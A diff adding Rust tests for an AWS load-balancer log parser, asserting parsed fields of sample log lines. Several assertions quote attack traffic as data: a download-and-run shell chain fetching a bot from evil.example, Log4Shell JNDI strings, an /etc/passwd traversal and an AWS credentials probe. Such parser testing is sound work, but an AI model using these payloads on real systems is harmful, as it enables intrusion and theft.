@@ -1,0 +1,654 @@
+use super::*;
+use crate::parse::{Outcome, StreamParser};
+use crate::record::format_rfc3339;
+use std::net::IpAddr;
+use std::path::PathBuf;
+
+pub(crate) const SAMPLE: &str = include_str!("../../../sample-logs/alb.log");
+
+/// Run every line of `text` through a fresh [`StreamParser`]: one outcome per line.
+pub(crate) fn outcomes(text: &str, forced: Option<Format>) -> Vec<Outcome<'_>> {
+    let mut p = StreamParser::new(forced);
+    text.split('\n')
+        .map(|line| {
+            let mut v = Vec::new();
+            p.parse_line(line, &mut |o| v.push(o));
+            assert_eq!(v.len(), 1, "one outcome per line: {line:?}");
+            v.pop().unwrap()
+        })
+        .collect()
+}
+
+pub(crate) fn req<'a, 'b>(o: &'b Outcome<'a>) -> &'b Request<'a> {
+    match o {
+        Outcome::Request(r) => r,
+        other => panic!("expected a request, got {other:?}"),
+    }
+}
+
+pub(crate) fn ip(s: &str) -> Option<IpAddr> {
+    Some(s.parse().unwrap())
+}
+
+pub(crate) fn t(s: &str) -> Micros {
+    lex::iso8601(s).unwrap()
+}
+
+/// `$LBTOP_FORMATS/<sub>` (fallback `../shared/formats`), `None` when absent.
+pub(crate) fn formats_dir(sub: &str) -> Option<PathBuf> {
+    let base = std::env::var_os("LBTOP_FORMATS")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/formats"));
+    let dir = base.join(sub);
+    dir.is_dir().then_some(dir)
+}
+
+/// Read one fixture file, or `None` (and say so) when the formats folder is absent.
+pub(crate) fn fixture(sub: &str, name: &str) -> Option<String> {
+    let Some(dir) = formats_dir(sub) else {
+        println!("skipped: formats folder not found");
+        return None;
+    };
+    Some(std::fs::read_to_string(dir.join(name)).expect("fixture listed in README"))
+}
+
+#[test]
+fn sample_file_every_line() {
+    let o = outcomes(SAMPLE, None);
+    assert_eq!(o.len(), 25);
+
+    // 1: plain http, 29 fields.
+    let r = req(&o[0]);
+    assert_eq!(r.format, Format::Alb);
+    assert_eq!(format_rfc3339(r.time), "2024-03-05T10:00:01.123456Z");
+    assert_eq!(r.client_ip, ip("198.51.100.7"));
+    assert_eq!(r.client_host, None);
+    assert_eq!(r.client_port, Some(40001));
+    assert_eq!(r.backend.as_deref(), Some("10.20.0.11:8080"));
+    assert_eq!(
+        (r.request_time_us, r.backend_time_us, r.response_time_us),
+        (Some(1000), Some(15_000), Some(0))
+    );
+    assert_eq!(r.total_time_us, Some(16_000));
+    assert_eq!((r.status, r.backend_status), (Some(200), Some(200)));
+    assert_eq!((r.bytes_in, r.bytes_out), (Some(412), Some(5120)));
+    assert_eq!(r.method.as_deref(), Some("GET"));
+    assert_eq!(r.scheme.as_deref(), Some("http"));
+    assert_eq!(r.host.as_deref(), Some("shop.example.org"));
+    assert_eq!(r.path.as_deref(), Some("/products"));
+    assert_eq!(r.query.as_deref(), Some("page=2"));
+    assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
+    assert!(r.user_agent.as_deref().unwrap().ends_with("Firefox/123.0"));
+    assert_eq!((r.tls_cipher.as_deref(), r.tls_protocol.as_deref()), (None, None));
+    assert_eq!(
+        r.trace_id.as_deref(),
+        Some("Root=1-65e6ee01-aaaabbbbccccddddeeeeffff")
+    );
+    assert_eq!(r.reason, None);
+    assert!(!r.is_lb_5xx());
+
+    // 2: https with TLS, SNI domain and the transform fields.
+    let r = req(&o[1]);
+    assert_eq!(r.scheme.as_deref(), Some("https"));
+    assert_eq!(r.method.as_deref(), Some("POST"));
+    assert_eq!(r.host.as_deref(), Some("api.example.org"));
+    assert_eq!(r.tls_cipher.as_deref(), Some("ECDHE-RSA-AES128-GCM-SHA256"));
+    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.2"));
+    assert_eq!(r.status, Some(201));
+    assert_eq!(r.total_time_us, Some(123_000));
+    let f = Fields::split(SAMPLE.lines().nth(1).unwrap()).unwrap();
+    assert_eq!(f.len(), MAX_FIELDS);
+    assert_eq!(f.get(Field::ActionsExecuted), Some("authenticate,forward"));
+    assert_eq!(
+        f.get(Field::ConnTraceId),
+        Some("TID_9f8e7d6c5b4a39281706f5e4d3c2b1a0")
+    );
+    assert_eq!(f.get(Field::TransformedHost), Some("internal-api.example.org"));
+    assert_eq!(f.get(Field::TransformedUri), Some("/v2/orders"));
+    assert_eq!(f.get(Field::RequestTransformStatus), Some("TransformSuccess"));
+    assert_eq!(f.get(Field::MatchedRulePriority), Some("10"));
+
+    // 3: h2 redirect action, no target, -1 timings.
+    let r = req(&o[2]);
+    assert_eq!(r.scheme.as_deref(), Some("h2"));
+    assert_eq!(r.protocol.as_deref(), Some("HTTP/2.0"));
+    assert_eq!((r.status, r.backend_status), (Some(301), None));
+    assert_eq!(r.backend, None);
+    assert_eq!(
+        (r.request_time_us, r.backend_time_us, r.response_time_us, r.total_time_us),
+        (None, None, None, None)
+    );
+    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.3"));
+    assert_eq!(format_rfc3339(r.time), "2024-03-05T10:00:03.000001Z");
+
+    // 4: ws upgrade.
+    let r = req(&o[3]);
+    assert_eq!(r.scheme.as_deref(), Some("ws"));
+    assert_eq!((r.status, r.backend_status), (Some(101), Some(101)));
+    assert_eq!(r.user_agent, None, "UA \"-\" is absent");
+    assert_eq!(r.host.as_deref(), Some("chat.example.org"));
+
+    // 5: wss, 25-field line with the `"-"7` typo (no space before the rule priority).
+    let r = req(&o[4]);
+    assert_eq!(r.scheme.as_deref(), Some("wss"));
+    assert_eq!(r.status, Some(101));
+    assert_eq!(r.bytes_out, Some(900));
+    let f = Fields::split(SAMPLE.lines().nth(4).unwrap()).unwrap();
+    assert_eq!(f.len(), 25);
+    assert_eq!(f.get(Field::MatchedRulePriority), Some("7"));
+    assert_eq!(f.get(Field::ActionsExecuted), Some("forward"));
+
+    // 6: grpcs with TID and three `"-"` transform fields.
+    let r = req(&o[5]);
+    assert_eq!(r.scheme.as_deref(), Some("grpcs"));
+    assert_eq!(r.path.as_deref(), Some("/inventory.v1.Stock/Get"));
+    assert_eq!(r.host.as_deref(), Some("grpc.example.org"));
+    assert_eq!(r.backend.as_deref(), Some("10.20.0.15:50051"));
+
+    // 7 and 8: 25-field 2019 lines, 504 / 460 with -1 timings and target status `-`.
+    let r = req(&o[6]);
+    assert_eq!((r.status, r.backend_status), (Some(504), None));
+    assert_eq!(r.backend.as_deref(), Some("10.0.1.5:80"));
+    assert_eq!(r.total_time_us, None);
+    assert!(r.is_lb_5xx());
+    assert_eq!(format_rfc3339(r.time), "2019-06-01T08:00:00.000100Z");
+    assert_eq!(
+        r.host.as_deref(),
+        Some("old-lb-123.us-east-1.elb.amazonaws.com")
+    );
+    let r = req(&o[7]);
+    assert_eq!((r.status, r.backend_status, r.bytes_out), (Some(460), None, Some(0)));
+    assert_eq!(r.path.as_deref(), Some("/slow"));
+
+    // 9: Lambda failure: 502, no target, error_reason.
+    let r = req(&o[8]);
+    assert_eq!((r.status, r.backend_status, r.backend.as_deref()), (Some(502), None, None));
+    assert_eq!(r.reason.as_deref(), Some("LambdaInvalidResponse"));
+    assert_eq!(r.backend_time_us, Some(30_000));
+    assert!(r.is_lb_5xx());
+
+    // 10: malformed request `"- http://host:80- -"`.
+    let r = req(&o[9]);
+    assert_eq!(r.status, Some(400));
+    assert_eq!((r.method.as_deref(), r.path.as_deref(), r.protocol.as_deref()), (None, None, None));
+    assert_eq!(
+        r.host.as_deref(),
+        Some("lbtop-demo-123456.eu-west-1.elb.amazonaws.com")
+    );
+    assert_eq!(r.trace_id, None);
+    assert_eq!(r.client_ip, ip("203.0.113.66"));
+
+    // 11: `"- - -"`.
+    let r = req(&o[10]);
+    assert_eq!(r.status, Some(400));
+    assert_eq!((r.method.as_deref(), r.host.as_deref(), r.path.as_deref()), (None, None, None));
+    assert_eq!(r.bytes_in, Some(0));
+
+    // 12: space inside the URL, classification reason.
+    let r = req(&o[11]);
+    assert_eq!(r.path.as_deref(), Some("/shell"));
+    assert_eq!(
+        r.query.as_deref(),
+        Some("cd+/tmp;rm+-rf+*;wget+ evil.example/bot;sh+/tmp/bot")
+    );
+    assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
+    assert_eq!(r.host.as_deref(), Some("127.0.0.1"));
+    assert_eq!(r.user_agent.as_deref(), Some("Hello, world"));
+    assert_eq!(r.reason.as_deref(), Some("SpaceInUri"));
+    assert_eq!(r.status, Some(301));
+
+    // 13: IPv6 client and target written with the port appended, no brackets.
+    let r = req(&o[12]);
+    assert_eq!(r.client_ip, ip("2001:db8:85a3:1:2:8a2e:370:7334"));
+    assert_eq!(r.client_port, Some(50599));
+    assert_eq!(r.backend.as_deref(), Some("2001:db8:aaaa:6:0:ed83:f46:1:8443"));
+    assert_eq!(r.query.as_deref(), Some("q=shoes&limit=50"));
+    assert_eq!(r.total_time_us, Some(53_000));
+
+    // 14: WAF fixed-response to a double-encoded traversal.
+    let r = req(&o[13]);
+    assert_eq!((r.status, r.backend_status, r.backend.as_deref()), (Some(403), None, None));
+    assert_eq!(
+        r.path.as_deref(),
+        Some("/%%32%65%%32%65/%%32%65%%32%65/etc/passwd")
+    );
+    assert!(!r.is_lb_5xx());
+
+    // 15: Log4Shell user agent.
+    let r = req(&o[14]);
+    assert_eq!(
+        r.user_agent.as_deref(),
+        Some("${jndi:ldap://${env:USER}.probe.example/a}")
+    );
+    assert_eq!(r.path.as_deref(), Some("/.aws/credentials"));
+
+    // 16: unquoted target:port list and status list (vrl variant).
+    let r = req(&o[15]);
+    assert_eq!((r.status, r.backend_status), (Some(404), Some(404)));
+    let f = Fields::split(SAMPLE.lines().nth(15).unwrap()).unwrap();
+    assert_eq!(f.get(Field::TargetPortList), Some("10.20.0.16:80"));
+    assert_eq!(f.get(Field::TargetStatusCodeList), Some("404"));
+    assert_eq!(f.get(Field::ConnTraceId), Some("TID_95969798999a9b9c9d9e9fa0a1a2a3a4"));
+
+    // 17: blank; 18–20: non-request records; 21–23: rejected lines.
+    assert_eq!(o[16], Outcome::Skipped("blank"));
+    assert_eq!(o[17], Outcome::Rejected(Reject("nlb-record")));
+    assert_eq!(o[18], Outcome::Rejected(Reject("alb-connection-log")));
+    assert_eq!(o[19], Outcome::Rejected(Reject("alb-connection-log")));
+    assert_eq!(o[20], Outcome::Rejected(Reject("garbage")));
+    assert_eq!(o[21], Outcome::Rejected(Reject("bad-timestamp")));
+    assert_eq!(o[22], Outcome::Rejected(Reject("truncated")));
+
+    // 24: CRLF line end.
+    let r = req(&o[23]);
+    assert_eq!(r.path.as_deref(), Some("/crlf"));
+    assert_eq!(r.backend_status, Some(200));
+
+    // 25: malformed `"- http://host:80-/ "` with 200, no final newline.
+    let r = req(&o[24]);
+    assert_eq!(r.status, Some(200));
+    assert_eq!(r.method, None);
+    assert_eq!(r.host.as_deref(), Some("internal.example.org"));
+    assert_eq!(r.client_ip, ip("127.0.0.1"));
+    assert_eq!(format_rfc3339(r.time), "2024-03-05T10:17:00.748149Z");
+}
+
+#[test]
+fn direct_parse_matches_stream_and_crlf() {
+    for line in SAMPLE.split('\n').filter(|l| !l.trim().is_empty()) {
+        let direct = parse(line);
+        let trimmed = parse(line.trim_end_matches('\r'));
+        assert_eq!(direct, trimmed, "{line}");
+    }
+}
+
+#[test]
+fn sniff_cases() {
+    let lines: Vec<&str> = SAMPLE.split('\n').collect();
+    for i in [0, 1, 2, 3, 4, 5, 8, 9, 12, 17, 18, 19] {
+        assert!(sniff(lines[i]), "line {}", i + 1);
+    }
+    assert!(!sniff(lines[20]), "garbage");
+    assert!(!sniff(""));
+    assert!(!sniff("http is great"));
+    // A classic ELB line is not ALB.
+    assert!(!sniff(
+        "2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/7.38.0\" - -"
+    ));
+}
+
+#[test]
+fn unknown_type_and_misaligned_status() {
+    let base = SAMPLE.lines().next().unwrap();
+    let future = base.replacen("http ", "h3 ", 1);
+    let r = parse(&future).unwrap();
+    assert_eq!(r.scheme.as_deref(), Some("h3"));
+    let bad = base.replacen(" 200 200 ", " 200 OK ", 1);
+    assert_eq!(parse(&bad), Err(Reject("bad-status")));
+    let short = "http 2024-03-05T10:00:01.123456Z app/x 1.2.3.4:5 - -1 -1 -1 400";
+    assert_eq!(parse(short), Err(Reject("truncated")));
+    assert_eq!(parse(""), Err(Reject("garbage")));
+    let old = base.replacen("2024-03-05", "1970-01-01", 1);
+    assert_eq!(parse(&old), Err(Reject("bad-timestamp")));
+}
+
+/// Every file of the published ALB fixtures: request lines parse with the right fields,
+/// other records are rejected with the right reason.
+#[test]
+fn conformance_published_fixtures() {
+    let Some(dir) = formats_dir("alb") else {
+        println!("skipped: formats folder not found");
+        return;
+    };
+    let mut total = 0;
+    for entry in std::fs::read_dir(&dir).unwrap() {
+        let path = entry.unwrap().path();
+        let text = std::fs::read_to_string(&path).unwrap();
+        let o = outcomes(&text, None);
+        for (i, (line, out)) in text.split('\n').zip(&o).enumerate() {
+            let line = line.trim_end_matches('\r');
+            if line.trim().is_empty() {
+                assert_eq!(*out, Outcome::Skipped("blank"));
+                continue;
+            }
+            total += 1;
+            let want = if line.starts_with("tls 2.0 ") {
+                Some("nlb-record")
+            } else if line.starts_with("20") {
+                Some("alb-connection-log")
+            } else {
+                None
+            };
+            match (want, out) {
+                (None, Outcome::Request(r)) => {
+                    assert_eq!(r.format, Format::Alb);
+                    assert!(r.status.is_some(), "{}:{}", path.display(), i + 1);
+                    assert!(r.client_ip.is_some(), "{}:{}", path.display(), i + 1);
+                    let year = &format_rfc3339(r.time)[..4];
+                    assert!(("2018".."2026").contains(&year), "{year}");
+                }
+                (Some(reason), Outcome::Rejected(Reject(got))) => assert_eq!(*got, reason),
+                _ => panic!("{}:{}: {out:?}", path.display(), i + 1),
+            }
+        }
+    }
+    assert!(total >= 60, "read {total} records");
+}
+
+#[test]
+fn conformance_spot_checks() {
+    let Some(text) = fixture("alb", "vectordotdev-vrl-parse_aws_alb_log.log") else {
+        return;
+    };
+    let o = outcomes(&text, None);
+    // Line 11: malformed request, -1 timings, target `-`.
+    let r = req(&o[10]);
+    assert_eq!((r.status, r.backend.as_deref(), r.total_time_us), (Some(400), None, None));
+    assert_eq!(r.method, None);
+    assert_eq!(
+        r.host.as_deref(),
+        Some("awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com")
+    );
+    // Line 12: scanner probe.
+    let r = req(&o[11]);
+    assert_eq!(r.method.as_deref(), Some("POST"));
+    assert_eq!(r.path.as_deref(), Some("/cgi-bin/login.cgi"));
+    // Lines 13–14: IPv6 client and target, no brackets.
+    for r in [req(&o[12]), req(&o[13])] {
+        assert_eq!(r.client_ip, ip("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc"));
+        assert_eq!(r.client_port, Some(50599));
+        assert_eq!(r.backend.as_deref(), Some("fd6d:6bbc:c529:6::face:ed83:f46:80"));
+        assert_eq!(r.host.as_deref(), Some("some.domain.com"));
+        assert_eq!(r.total_time_us, Some(53_000));
+    }
+
+    let Some(text) = fixture("alb", "elastic-beats-example-alb-http.log") else {
+        return;
+    };
+    let o = outcomes(&text, None);
+    let r = req(&o[4]); // the `"-" "-"1` typo line
+    assert_eq!((r.scheme.as_deref(), r.status, r.bytes_out), (Some("wss"), Some(101), Some(786)));
+    let r = req(&o[6]);
+    assert_eq!(r.reason.as_deref(), Some("LambdaInvalidResponse"));
+    assert_eq!((r.status, r.backend_status), (Some(502), None));
+    let r = req(&o[8]); // "- - -"
+    assert_eq!((r.status, r.method.as_deref(), r.path.as_deref()), (Some(400), None, None));
+
+    let Some(text) = fixture("alb", "elastic-integrations-test-alb.log") else {
+        return;
+    };
+    let o = outcomes(&text, None);
+    let r = req(&o[1]);
+    assert_eq!(r.reason.as_deref(), Some("SpaceInUri"));
+    assert_eq!(r.user_agent.as_deref(), Some("Hello, world"));
+    assert_eq!(r.path.as_deref(), Some("/shell"));
+    for i in 2..6 {
+        assert_eq!(o[i], Outcome::Rejected(Reject("nlb-record")), "line {}", i + 1);
+    }
+    for i in 6..9 {
+        assert_eq!(o[i], Outcome::Rejected(Reject("alb-connection-log")), "line {}", i + 1);
+    }
+    let r = req(&o[9]);
+    assert_eq!(r.status, Some(200));
+    assert_eq!(r.host.as_deref(), Some("internal-service-alb.example.com"));
+
+    let Some(text) = fixture("alb", "crowdsec-hub-aws-alb-logs.log") else {
+        return;
+    };
+    let o = outcomes(&text, None);
+    let r = req(&o[4]);
+    assert_eq!(r.user_agent.as_deref(), Some("${jndi:ldap://${java:version}.domain/a}"));
+    assert_eq!((r.status, r.backend_status, r.request_time_us), (Some(404), None, None));
+    let r = req(&o[3]);
+    assert_eq!(r.path.as_deref(), Some("/%%32%65%%32%65/"));
+    assert_eq!(r.host.as_deref(), Some("api.example.com"));
+    let f = Fields::split(text.lines().nth(7).unwrap()).unwrap();
+    assert_eq!(f.get(Field::TransformedHost), Some("m.example.com"));
+    assert_eq!(f.get(Field::RequestTransformStatus), Some("TransformSuccess"));
+
+    let Some(text) = fixture("alb", "elastic-beats-application-lb-http.log") else {
+        return;
+    };
+    let o = outcomes(&text, None);
+    let r = req(&o[0]);
+    assert_eq!((r.status, r.backend_status, r.total_time_us), (Some(460), None, None));
+    assert_eq!(r.client_ip, ip("77.227.156.41"));
+}
+
+mod fuzz {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn check(line: &str) {
+        if let Ok(r) = parse(line) {
+            assert!((MIN_TIME..MAX_TIME).contains(&r.time));
+        }
+        let _ = sniff(line);
+        let _ = crate::parse::elb::parse(line);
+        let _ = crate::parse::elb::sniff(line);
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+
+        #[test]
+        fn arbitrary_strings(s in ".{0,800}") {
+            check(&s);
+        }
+
+        #[test]
+        fn arbitrary_bytes(b in proptest::collection::vec(any::<u8>(), 0..800)) {
+            check(&String::from_utf8_lossy(&b));
+        }
+
+        #[test]
+        fn mutated_lines(
+            which in 0usize..25,
+            edits in proptest::collection::vec((any::<prop::sample::Index>(), 0u8..4, any::<char>()), 1..6),
+        ) {
+            let mut b: Vec<u8> = SAMPLE.split('\n').nth(which).unwrap().as_bytes().to_vec();
+            for (at, op, c) in edits {
+                if b.is_empty() { break; }
+                let i = at.index(b.len());
+                match op {
+                    0 => { b.truncate(i); }
+                    1 => { b.remove(i); }
+                    2 => { let mut buf = [0u8; 4]; for (k, x) in c.encode_utf8(&mut buf).bytes().enumerate() { b.insert(i + k, x); } }
+                    _ => { b[i] = [b'"', b' ', b'-', b'\\'][i % 4]; }
+                }
+            }
+            check(&String::from_utf8_lossy(&b));
+        }
+    }
+}
+
+/// `cargo test --release --lib --no-default-features -- --ignored --nocapture alb_throughput`
+#[test]
+#[ignore]
+fn alb_throughput() {
+    use std::fmt::Write;
+    let base = SAMPLE.lines().nth(1).unwrap(); // the full 34-field https line
+    let mut text = String::new();
+    let n = 200_000;
+    for i in 0..n {
+        let ip = format!("10.{}.{}.{}:{}", i % 200, (i / 200) % 250, i % 251, 1024 + i % 60000);
+        let line = base
+            .replacen("198.51.100.8:40002", &ip, 1)
+            .replacen("10:00:02.500000Z", &format!("10:{:02}:{:02}.{:06}Z", (i / 60) % 60, i % 60, i), 1);
+        writeln!(text, "{line}").unwrap();
+    }
+    let lines: Vec<&str> = text.lines().collect();
+    let avg = text.len() / n;
+    // CPU time of this thread (Linux schedstat), so a loaded machine does not skew the figure.
+    fn cpu_ns() -> Option<u64> {
+        let s = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
+        s.split_whitespace().next()?.parse().ok()
+    }
+    let (mut best_wall, mut best_cpu) = (f64::MAX, f64::MAX);
+    let mut sum = 0u64;
+    for _ in 0..5 {
+        let (start, cpu0) = (std::time::Instant::now(), cpu_ns());
+        for l in &lines {
+            let r = parse(std::hint::black_box(l)).unwrap();
+            sum += r.bytes_out.unwrap_or(0);
+        }
+        best_wall = best_wall.min(start.elapsed().as_secs_f64());
+        if let (Some(a), Some(b)) = (cpu0, cpu_ns()) {
+            best_cpu = best_cpu.min((b - a) as f64 / 1e9);
+        }
+    }
+    assert_eq!(sum, 5 * 88 * n as u64);
+    let rate = |secs: f64| n as f64 / secs / 1e6;
+    println!(
+        "alb_throughput: {n} lines of ~{avg} bytes: {:.2} M lines/s CPU time ({:.0} ns/line), {:.2} M lines/s wall",
+        rate(best_cpu),
+        best_cpu * 1e9 / n as f64,
+        rate(best_wall),
+    );
+}
+
+#[test]
+#[ignore]
+fn zz_parts() {
+    fn cpu_ns() -> u64 {
+        let s = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
+        s.split_whitespace().next().unwrap().parse().unwrap()
+    }
+    let base = SAMPLE.lines().nth(1).unwrap();
+    let lines: Vec<String> = (0..200_000).map(|i| base.replacen("198.51.100.8:40002", &format!("10.0.{}.{}:{}", i % 250, i % 200, 1000 + i % 5000), 1)).collect();
+    macro_rules! bench {
+        ($name:expr, $e:expr) => {{
+            let mut best = u64::MAX;
+            for _ in 0..5 {
+                let c = cpu_ns();
+                for l in &lines { std::hint::black_box($e(std::hint::black_box(l.as_str()))); }
+                best = best.min(cpu_ns() - c);
+            }
+            println!("{:>12}: {:.0} ns/line", $name, best as f64 / lines.len() as f64);
+        }};
+    }
+    bench!("kind", |l: &str| kind(l) as u8);
+    bench!("split", |l: &str| Fields::split(l).unwrap().len());
+    bench!("iso", |l: &str| lex::iso8601(&l[6..33]));
+    bench!("hostport", |l: &str| { let f = Fields::split(l).unwrap(); let (h, p) = lex::split_host_port(f.raw(Field::Client)); (lex::ip(h), p) });
+    bench!("reqline", |l: &str| { let f = Fields::split(l).unwrap(); lex::request_line(f.raw(Field::Request)).path.map(|p| p.len()) });
+    bench!("secs", |l: &str| { let f = Fields::split(l).unwrap(); lex::secs_to_us(f.raw(Field::TargetProcessingTime)) });
+    bench!("parse", |l: &str| parse(l).unwrap().bytes_out);
+}
+
+fn split_iter<'a>(line: &'a str, out: &mut [&'a str]) -> usize {
+    let b = line.as_bytes();
+    let mut it = memchr::memchr2_iter(b' ', b'"', b);
+    let mut i = 0;
+    let mut n = 0;
+    while i < b.len() && n < out.len() {
+        if b[i] == b'"' {
+            let end = loop {
+                match it.next() {
+                    None => return n,
+                    Some(h) if h <= i || b[h] != b'"' || b[h - 1] == b'\\' => continue,
+                    Some(h) => break h,
+                }
+            };
+            out[n] = &line[i + 1..end];
+            i = end + 1;
+            if i < b.len() && b[i] == b' ' { i += 1; }
+        } else {
+            let end = loop {
+                match it.next() {
+                    None => break b.len(),
+                    Some(h) if h < i || b[h] != b' ' => continue,
+                    Some(h) => break h,
+                }
+            };
+            out[n] = &line[i..end];
+            i = end + 1;
+        }
+        n += 1;
+    }
+    n
+}
+
+fn split_scalar<'a>(line: &'a str, out: &mut [&'a str]) -> usize {
+    let b = line.as_bytes();
+    let mut i = 0;
+    let mut n = 0;
+    while i < b.len() && n < out.len() {
+        if b[i] == b'"' {
+            let start = i + 1;
+            let end = match memchr::memchr(b'"', &b[start..]) { Some(k) => start + k, None => return n };
+            out[n] = &line[start..end];
+            i = end + 1;
+            if i < b.len() && b[i] == b' ' { i += 1; }
+        } else {
+            let mut j = i;
+            while j < b.len() && b[j] != b' ' { j += 1; }
+            out[n] = &line[i..j];
+            i = j + 1;
+        }
+        n += 1;
+    }
+    n
+}
+
+#[test]
+#[ignore]
+fn zz_split() {
+    fn cpu_ns() -> u64 {
+        let s = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
+        s.split_whitespace().next().unwrap().parse().unwrap()
+    }
+    let base = SAMPLE.lines().nth(1).unwrap();
+    let mut text = String::new();
+    for i in 0..200_000 { text.push_str(&base.replacen("198.51.100.8:40002", &format!("10.0.{}.{}:{}", i % 250, i % 200, 1000 + i % 5000), 1)); text.push('\n'); }
+    let lines: Vec<&str> = text.lines().collect();
+    let mut a = [""; 33]; let mut b2 = [""; 33];
+    fields::split_fields(base, &mut a).unwrap(); assert_eq!(split_iter(base, &mut b2), 33); assert_eq!(a, b2);
+    split_scalar(base, &mut b2); assert_eq!(a, b2);
+    macro_rules! bench {
+        ($name:expr, $e:expr) => {{
+            let mut best = u64::MAX;
+            for _ in 0..5 {
+                let c = cpu_ns();
+                for l in &lines { std::hint::black_box($e(std::hint::black_box(*l))); }
+                best = best.min(cpu_ns() - c);
+            }
+            println!("{:>12}: {:.0} ns/line", $name, best as f64 / lines.len() as f64);
+        }};
+    }
+    bench!("kind", |l: &str| kind(l) as u8);
+    bench!("split", |l: &str| { let mut o = [""; 33]; fields::split_fields(l, &mut o).unwrap() + o[20].len() });
+    bench!("split_iter", |l: &str| { let mut o = [""; 33]; split_iter(l, &mut o) + o[20].len() });
+    bench!("split_scalar", |l: &str| { let mut o = [""; 33]; split_scalar(l, &mut o) + o[20].len() });
+    bench!("parse", |l: &str| parse(l).unwrap().bytes_out);
+}
+
+#[test]
+#[ignore]
+fn zz_comp() {
+    fn cpu_ns() -> u64 {
+        let s = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
+        s.split_whitespace().next().unwrap().parse().unwrap()
+    }
+    let base = SAMPLE.lines().nth(1).unwrap();
+    let f = Fields::split(base).unwrap();
+    let n = 1_000_000;
+    macro_rules! bench {
+        ($name:expr, $e:expr) => {{
+            let mut best = u64::MAX;
+            for _ in 0..5 {
+                let c = cpu_ns();
+                for _ in 0..n { std::hint::black_box($e(std::hint::black_box(&f))); }
+                best = best.min(cpu_ns() - c);
+            }
+            println!("{:>12}: {:.1} ns/op", $name, best as f64 / n as f64);
+        }};
+    }
+    bench!("iso", |f: &Fields| lex::iso8601(f.raw(Field::Time)));
+    bench!("hostport", |f: &Fields| { let (h, p) = lex::split_host_port(f.raw(Field::Client)); (lex::ip(h), p) });
+    bench!("reqline", |f: &Fields| lex::request_line(f.raw(Field::Request)).path.map(|p| p.len()));
+    bench!("secs", |f: &Fields| lex::secs_to_us(f.raw(Field::TargetProcessingTime)));
+    bench!("status", |f: &Fields| opt_status(f.raw(Field::ElbStatusCode)));
+    bench!("parse", |_f: &Fields| parse(base).unwrap().bytes_out);
+    bench!("split", |_f: &Fields| Fields::split_upto(base, Field::ClassificationReason).unwrap().len());
+}
